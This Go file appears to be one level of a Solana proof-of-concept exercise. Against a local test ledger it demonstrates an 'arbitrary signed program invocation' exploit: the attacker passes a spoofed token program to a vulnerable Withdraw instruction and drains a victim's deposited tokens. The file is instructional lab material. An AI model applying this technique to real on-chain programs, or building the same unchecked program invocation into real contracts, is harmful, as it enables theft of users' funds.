package level4

import (
	"context"
	"crypto/ed25519"

	"github.com/code-payments/poc-ledger/pkg/ledger/localenv"
	"github.com/code-payments/poc-ledger/pkg/pocs"
	"github.com/code-payments/poc-ledger/pkg/solana"
	"github.com/code-payments/poc-ledger/pkg/solana/system"
	"github.com/code-payments/poc-ledger/pkg/solana/token"
)

const (
	Level       = 4
	Name        = "arbitrary signed program invocation"
	Description = "Withdraw signs a transfer for whichever token program the caller passes, so the attacker substitutes a program that reverses the transfer through the real token program using the shared wallet authority."

	OwnerLamports    = 100_000_000_000
	AttackerLamports = 100_000_000_000
	Decimals         = 9
	MintedAmount     = 1_000_000_000
	DepositAmount    = 10_000
)

// Actor keypair indexes.
const (
	AttackerIndex     = 1
	OwnerIndex        = 2
	MintIndex         = 3
	TokenAccountIndex = 4
)

// Options configures an environment with the wallet program and the
// attacker's program deployed, and the victim funded as the payer.
func Options() []localenv.Option {
	return []localenv.Option{
		localenv.WithPayer(solana.KeypairFromIndex(OwnerIndex), OwnerLamports),
		localenv.WithProgram(ProgramKey, New()),
		localenv.WithProgram(SpoofProgramKey, NewSpoofedToken()),
	}
}

// Run creates a mint and a funded token wallet for the victim, then has the
// attacker withdraw from their own empty wallet through the spoofed token
// program, which pulls the victim's tokens in instead.
func Run(ctx context.Context, env *localenv.Environment) (*pocs.Report, error) {
	rec := pocs.NewRecorder(env, Level, Name, Description, ProgramKey)

	owner := env.Keypair(OwnerIndex)
	ownerKey := owner.Public().(ed25519.PublicKey)
	mint := env.Keypair(MintIndex)
	mintKey := mint.Public().(ed25519.PublicKey)
	tokenAccount := env.Keypair(TokenAccountIndex)
	tokenAccountKey := tokenAccount.Public().(ed25519.PublicKey)
	attacker := env.Keypair(AttackerIndex)
	attackerKey := attacker.Public().(ed25519.PublicKey)

	authority, _, err := AuthorityAddress(ProgramKey)
	if err != nil {
		return nil, err
	}
	wallet, _, err := WalletAddress(ProgramKey, ownerKey)
	if err != nil {
		return nil, err
	}
	attackerWallet, _, err := WalletAddress(ProgramKey, attackerKey)
	if err != nil {
		return nil, err
	}

	rent := env.Rent(ctx)

	err = rec.Execute(ctx, "create mint", []solana.Instruction{
		system.CreateAccount(ownerKey, mintKey, token.ProgramKey, rent.MinimumBalance(token.MintSize), token.MintSize),
		token.InitializeMint(mintKey, ownerKey, nil, Decimals),
	}, owner, mint)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "initialize wallet", []solana.Instruction{
		Initialize(ProgramKey, wallet, authority, ownerKey, mintKey),
	}, owner)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "create token account", []solana.Instruction{
		system.CreateAccount(ownerKey, tokenAccountKey, token.ProgramKey, rent.MinimumBalance(token.AccountSize), token.AccountSize),
		token.InitializeAccount(tokenAccountKey, mintKey, ownerKey),
		token.MintTo(mintKey, tokenAccountKey, ownerKey, MintedAmount),
	}, owner, tokenAccount)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "deposit", []solana.Instruction{
		Deposit(ProgramKey, wallet, tokenAccountKey, ownerKey, mintKey, DepositAmount),
	}, owner)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, attackerKey, AttackerLamports); err != nil {
		return nil, err
	}
	err = rec.Execute(ctx, "initialize attacker wallet", []solana.Instruction{
		Initialize(ProgramKey, attackerWallet, authority, attackerKey, mintKey),
	}, attacker)
	if err != nil {
		return nil, err
	}

	if err := rec.TrackTokens(ctx, "wallet", wallet, pocs.RoleVictim); err != nil {
		return nil, err
	}
	if err := rec.TrackTokens(ctx, "attacker wallet", attackerWallet, pocs.RoleAttacker); err != nil {
		return nil, err
	}

	// The real token program goes where the mint is expected, and the spoofed
	// one where the token program is expected
	err = rec.Execute(ctx, "withdraw", []solana.Instruction{
		Withdraw(ProgramKey, attackerWallet, authority, attackerKey, wallet, token.ProgramKey, SpoofProgramKey, DepositAmount),
	}, attacker)
	if err != nil {
		return nil, err
	}

	return rec.Finish(ctx)
}
